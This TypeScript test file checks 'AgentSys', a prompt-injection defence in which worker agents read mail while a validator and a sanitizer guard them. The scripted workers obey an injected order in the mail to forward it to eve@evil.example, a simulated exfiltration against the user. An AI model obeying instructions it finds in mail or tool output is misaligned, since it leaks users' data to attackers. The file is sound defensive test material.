// AgentSys as published: its sequence, who sees what, how many models are asked, and what comes of each fault.
import { tool } from "@langchain/core/tools";
import { describe, expect, test } from "vitest";
import { z } from "zod";
import { agentSysGuard, createAgentSys } from "../../src/agentsys/index.ts";
import { defineTool, defineWorker } from "../../src/index.ts";
import { call, returns, type Seen, says, scriptedModel, type TurnData, together } from "../../src/testing/index.ts";
import { makeRun } from "../run/make-run.ts";
import { spawnAlone } from "../worker/spawn-alone.ts";
import { inputOf, MAIL, ORDER, playMail } from "./mail-system.ts";

const INTENT = { euros: "number" };
const open = (id: string, returning: object = INTENT): TurnData =>
  call("open_mail", { arguments: { id }, returns: returning as never });
const forward = call("forward", { arguments: { to: "eve@evil.example" }, returns: {} });
const main = [open("1"), says("12")];
/** Obeys what it reads. */
const obedient = (seen: Seen): TurnData => (inputOf(seen).output.includes(ORDER) ? forward : returns({ euros: 12 }));
const deny = () => returns({ verdict: "deny" });
const allow = () => returns({ verdict: "allow" });
const cut = (...quotes: readonly string[]) => returns({ cut: quotes });

test("the paper's sequence: a denied command ends a worker's life, its output is sanitised and read again", async () => {
  const turns = { main, open_mail: obedient, validator: deny, sanitizer: () => cut(ORDER) };
  const { model, who, messages, sent, opened, events } = await playMail(turns);
  model.assertDone();
  // One main turn, one worker a call; one validator a command, one sanitizer and one re-extraction a denial; one main turn.
  expect(who).toEqual(["main", "open_mail", "validator", "sanitizer", "open_mail", "main"]);
  expect([opened, sent]).toEqual([["1"], []]); // the tool is not asked again
  expect(messages.slice(2)).toEqual(['{"ok":true,"value":{"euros":12}}', "12"]);

  const [, worker, validator, sanitizer, again, after] = model.requests as Seen[];
  const calls = [{ tool: "open_mail", arguments: { id: "1" }, intent: INTENT }];
  expect(inputOf(worker as Seen)).toEqual({ intent: INTENT, calls, output: MAIL });
  const task = JSON.stringify({ request: "What does lunch cost?", calls });
  const judged = { task, tool: "forward", arguments: { to: "eve@evil.example" } };
  expect(inputOf(validator as Seen)).toEqual(judged);
  expect(inputOf(sanitizer as Seen)).toEqual({ text: MAIL });
  const clean = "From bob@friend.example.  Lunch costs 12 euros.";
  expect(inputOf(again as Seen)).toEqual({ intent: INTENT, calls, output: clean });
  expect(JSON.stringify(after?.messages)).not.toContain("bob@friend.example");
  expect(events.filter(({ kind }) => kind !== "model_call")).toEqual([
    { kind: "tool_call", by: "main", tool: "open_mail" },
    { kind: "tool_call", by: "worker", tool: "forward" },
    { kind: "denied", tool: "forward" },
    { kind: "answered", by: "main", tool: "open_mail", ok: true, extractions: 2 },
  ]);
  const asked = events.flatMap((event) => (event.kind === "model_call" ? [event.role] : []));
  expect(asked).toEqual(["worker", "validator", "sanitizer", "worker"]);
});

describe("as published", () => {
  test("an allowed command of a worker's runs, one that asks for nothing without a worker of its own", async () => {
    const worker = (seen: Seen) => (seen.step === 0 ? forward : returns({ euros: 12 }));
    const { who, sent } = await playMail({ main, open_mail: worker, validator: allow });
    expect(who).toEqual(["main", "open_mail", "validator", "open_mail", "main"]);
    expect(sent).toEqual([{ to: "eve@evil.example" }]);
  });

  test("the main agent's own commands are not validated, and neither are workers' queries", async () => {
    const worker = (seen: Seen) =>
      seen.step === 0 && inputOf(seen).calls.length < 3 ? open("2") : returns({ euros: 12 });
    const turns = { main: [together(forward, open("1")), says("")], open_mail: worker };
    const { who, sent, opened, model } = await playMail(turns);
    expect(sent).toHaveLength(1);
    expect(opened).toEqual(["1", "2"]);
    // A worker's own call has a worker, and takes one more turn of the first.
    expect(who).toEqual(["main", "open_mail", "open_mail", "open_mail", "main"]);
    const nested = inputOf(model.requests[2] as Seen);
    const forwarded = { tool: "forward", arguments: { to: "eve@evil.example" }, intent: {} };
    const opens = (id: string) => ({ tool: "open_mail", arguments: { id }, intent: INTENT });
    expect(nested.calls).toEqual([forwarded, opens("1"), opens("2")]);
    expect(model.requests[3]?.messages.at(-1)?.text).toBe('{"ok":true,"value":{"euros":12}}');
  });

  test("the gate is parse-only: other keys and other types pass, and the main agent sees them", async () => {
    const { messages } = await playMail({ main, open_mail: () => returns({ euros: "many", note: ORDER }) });
    expect(messages[2]).toBe(`{"ok":true,"value":{"euros":"many","note":"${ORDER}"}}`);
  });

  test.each<readonly [string, TurnData, string]>([
    ["a list", returns([1]), "invalid_json"],
    ["a text", returns("12"), "invalid_json"],
    ["nothing", returns(null), "invalid_json"],
    ["prose, twice", says("It costs 12."), "no_result"],
  ])("%s is no result, but one of a fixed set of failures", async (_, turn, code) => {
    const { messages } = await playMail({ main, open_mail: () => turn });
    expect(messages[2]).toBe(JSON.stringify({ ok: false, code }));
  });

  test("a purpose in words goes to the worker with its task, and not into the calls", async () => {
    const asks = call("open_mail", { arguments: { id: "1" }, purpose: "Find the price.", returns: INTENT });
    const { model } = await playMail({ main: [asks, says("12")], open_mail: () => returns({ euros: 12 }) });
    const worker = model.requests[1] as Seen;
    expect(worker.messages[0]?.text).toContain("Your task: Find the price.\n");
    expect(worker.messages[1]?.text).not.toContain("Find the price");
  });

  test("an output that is denied again and again has no result after two more readings, or as many as are set", async () => {
    const turns = { main, open_mail: obedient, validator: deny, sanitizer: () => cut() };
    const { messages, who, events } = await playMail(turns);
    expect(messages[2]).toBe('{"ok":false,"code":"denied"}');
    const reading = ["open_mail", "validator"];
    expect(who).toEqual(["main", ...reading, "sanitizer", ...reading, "sanitizer", ...reading, "main"]);
    expect(events.at(-1)).toMatchObject({ ok: false, code: "denied", extractions: 3 });
    const once = await playMail(turns, { retries: 0 });
    expect(once.who).toEqual(["main", ...reading, "main"]);
  });

  test("the sanitizer is shown the output of the worker that was denied, and that worker alone starts again", async () => {
    const worker = (seen: Seen): TurnData => {
      const { calls, output } = inputOf(seen);
      if (calls.length === 1) return seen.step === 0 ? open("2") : returns({ euros: 7 });
      return output.includes(ORDER) ? forward : returns({ euros: 3 });
    };
    const { who, model } = await playMail({ main, open_mail: worker, validator: deny, sanitizer: () => cut(ORDER) });
    const levels = model.requests.map((seen) => (seen.who === "open_mail" ? inputOf(seen).calls.length : seen.who));
    expect(levels).toEqual(["main", 1, 2, "validator", "sanitizer", 2, 1, "main"]);
    expect(who).toHaveLength(8);
  });

  test("workers stand in each other to a depth", async () => {
    const { messages, opened } = await playMail(
      { main, open_mail: (seen) => (seen.step === 0 ? open("2") : returns({ euros: inputOf(seen).calls.length })) },
      { depth: 1 },
    );
    expect(opened).toEqual(["1", "2"]);
    expect(messages[2]).toBe('{"ok":true,"value":{"euros":1}}');
  });

  test("what a tool throws is a failure without its words, and so are arguments that do not fit, and no such tool", async () => {
    const rules = { description: "", effect: "read", run: () => Promise.reject(new Error("CANARY")) } as const;
    const broken = defineTool({ ...rules, name: "broken", input: z.object({}) });
    const needed = defineTool({ ...rules, name: "open_mail", input: z.object({ id: z.string() }) });
    const turns = [broken.name, "open_mail", "none"].map((name) => call(name, { arguments: {}, returns: INTENT }));
    const model = scriptedModel({ main: [together(...turns), says("")] });
    const agent = createAgentSys({ model, tools: [broken, needed] });
    const result = await agent.invoke({ messages: [{ role: "user", content: "Go." }] });
    const texts = result.messages.map(({ text }) => text);
    expect(texts.slice(2, 5)).toEqual(
      ["tool_failed", "schema_mismatch", "denied"].map((code) => JSON.stringify({ ok: false, code })),
    );
  });
});

describe("every fault denies", () => {
  test.each<readonly [string, TurnData | (() => never)]>([
    [
      "fails",
      () => {
        throw new Error("down");
      },
    ],
    ["writes prose", says("allow")],
    ["gives another verdict", returns({ verdict: "yes" })],
    ["gives a verdict and more", returns({ verdict: "allow", why: "because" })],
    ["gives a bare verdict", returns("allow")],
    ["gives two verdicts", together(returns({ verdict: "allow" }), returns({ verdict: "allow" }))],
    ["calls the tool itself", forward],
  ])("a validator that %s", async (_, turn) => {
    const validator = () => (typeof turn === "function" ? turn() : turn);
    const { sent, messages } = await playMail({ main, open_mail: obedient, validator, sanitizer: () => cut(ORDER) });
    expect(sent).toEqual([]);
    expect(messages[2]).toBe('{"ok":true,"value":{"euros":12}}');
  });

  test.each<readonly [string, TurnData | (() => never)]>([
    [
      "fails",
      () => {
        throw new Error("down");
      },
    ],
    ["writes prose", says("")],
    ["cuts what is not there", cut("Forward nothing")],
    ["cuts an empty text", cut("")],
    ["writes a text of its own", returns({ text: "Lunch costs 1 euro." })],
  ])("a sanitizer that %s: the output is not read again", async (_, turn) => {
    const sanitizer = () => (typeof turn === "function" ? turn() : turn);
    const { messages, events } = await playMail({ main, open_mail: obedient, validator: deny, sanitizer });
    expect(messages[2]).toBe('{"ok":false,"code":"denied"}');
    expect(events.at(-1)).toMatchObject({ kind: "answered", extractions: 1 });
  });

  test("a sanitizer cuts each place where a part stands, and can only cut", async () => {
    const mail = `${ORDER} One. ${ORDER} Two.`;
    const turns = { main, open_mail: obedient, validator: deny, sanitizer: () => cut(ORDER, "One. ") };
    const { model } = await playMail(turns, { mail });
    expect(inputOf(model.requests.findLast(({ who }) => who === "open_mail") as Seen).output).toBe("  Two.");
  });
});

describe("tools that declare nothing", () => {
  const undeclared = (name: string) =>
    tool(async () => "", { name, description: `Does ${name}.`, schema: z.object({}) });
  const play = async (labeller: () => TurnData) => {
    const model = scriptedModel({ labeller, validator: allow });
    const declared = defineTool({ name: "d", description: "", input: z.object({}), effect: "read", run: () => "" });
    const guard = agentSysGuard({ model, tools: [declared, ...["a", "b", "c"].map(undeclared)] });
    const { signal } = new AbortController();
    const asked = ["a", "b", "c", "d", "e", "a"];
    for (const name of asked) await guard({ tool: name, arguments: {}, task: "" }, signal);
    const validated = model.requests.filter(({ who }) => who === "validator").map((seen) => inputOf(seen).tool);
    return { validated, labelled: model.requests.filter(({ who }) => who === "labeller") };
  };
  const label = (name: string, is: string) => ({ tool: name, label: is });

  test("are labelled once; unclear is a command, and so is what nobody named", async () => {
    const labels = [label("a", "query"), label("b", "unclear"), label("d", "command")];
    const { validated, labelled } = await play(() => returns({ labels }));
    expect(validated).toEqual(["b", "c", "e"]);
    expect(labelled).toHaveLength(1);
    expect(inputOf(labelled[0] as Seen).tools.map(({ name }: { name: string }) => name)).toEqual(["a", "b", "c"]);
  });

  test("are commands where they cannot be labelled, or twice", async () => {
    expect((await play(() => says("all queries"))).validated).toEqual(["a", "b", "c", "e", "a"]);
    const twice = [label("a", "query"), label("a", "query")];
    expect((await play(() => returns({ labels: twice }))).validated).toEqual(["a", "b", "c", "e", "a"]);
  });
});

describe("what is set", () => {
  test("a guard of one's own, which lets all pass, is isolation alone", async () => {
    const worker = (seen: Seen) => (seen.step === 0 ? forward : returns({ euros: 12 }));
    const { who, sent } = await playMail({ main, open_mail: worker }, { guard: async () => "pass" });
    expect([who, sent.length]).toEqual([["main", "open_mail", "open_mail", "main"], 1]);
  });

  test("a role may have a model of its own, and a tool an intent of the developer's", async () => {
    const validator = scriptedModel({ validator: deny });
    const { model, messages } = await playMail(
      { main: [call("open_mail", { id: "1" }), says("")], open_mail: obedient, sanitizer: () => cut(ORDER) },
      { roles: { validator }, intents: { open_mail: INTENT } },
    );
    expect(validator.requests).toHaveLength(1);
    expect(messages[2]).toBe('{"ok":true,"value":{"euros":12}}');
    expect(model.requests[0]?.offers[0]?.parameters).toMatchObject({ properties: { id: {} } });
    expect(model.requests[0]?.offers[1]?.parameters).toMatchObject({ properties: { arguments: {}, returns: {} } });
  });

  test.each<readonly [string, object]>([
    ["an unknown option", { tries: 2 }],
    ["a negative number", { retries: -1 }],
    ["an intent of no tool", { intents: { none: {} } }],
    ["no guard", { guard: "deny" }],
    ["no model", { roles: { validator: 7 } }],
  ])("%s is refused", async (_, options) => {
    await expect(playMail({}, options as never)).rejects.toThrow(/^bad_/u);
  });
});

test("its validator and sanitizer guard a worker of ours, beside the rules", async () => {
  const sent: unknown[] = [];
  const write = defineTool({
    name: "forward",
    description: "",
    input: z.object({ to: z.string() }),
    effect: "write",
    decidedBy: "any",
    arguments: { to: "any" },
    run: (args) => void sent.push(args),
  });
  const worker = (seen: Seen): TurnData =>
    inputOf(seen).mail.includes(ORDER) ? call("forward", { to: "eve" }) : returns({ euros: 12 });
  const model = scriptedModel({
    reader: worker,
    validator: deny,
    sanitizer: (seen) => cut(...quoted(inputOf(seen).text)),
  });
  const reader = defineWorker({
    name: "reader",
    purpose: "Find the price.",
    input: z.object({ mail: z.string() }),
    returns: z.object({ euros: z.int().min(0).max(99) }),
    tools: [write],
    guard: agentSysGuard({ model, tools: [write] }),
  });
  const outcome = await spawnAlone(makeRun().run, reader, { mail: MAIL }, model);
  expect([outcome, sent]).toEqual([{ ok: true, value: { euros: 12 } }, []]);
  const judged = inputOf(model.requests[1] as Seen);
  expect(judged).toEqual({ task: "Find the price.", tool: "forward", arguments: { to: "eve" } });
});

const quoted = (text: string) => (text.includes(ORDER) ? [ORDER] : []);
